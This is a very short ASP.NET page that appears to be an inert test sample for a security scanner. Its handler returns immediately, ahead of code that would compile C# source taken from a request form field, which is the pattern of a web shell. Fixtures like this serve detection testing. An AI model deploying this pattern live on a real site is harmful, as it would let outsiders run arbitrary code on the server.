<%@ Page Language="C#" %>
<%-- synthetic test sample for breachscan: request text compiled at run time. Inert: returns before anything runs. --%>
<script runat="server">
void Page_Load(object s, EventArgs e) {
    return;
    var p = new Microsoft.CSharp.CSharpCodeProvider();
    var r = p.CompileAssemblyFromSource(new System.CodeDom.Compiler.CompilerParameters(), Request.Form["src"]);
}
</script>
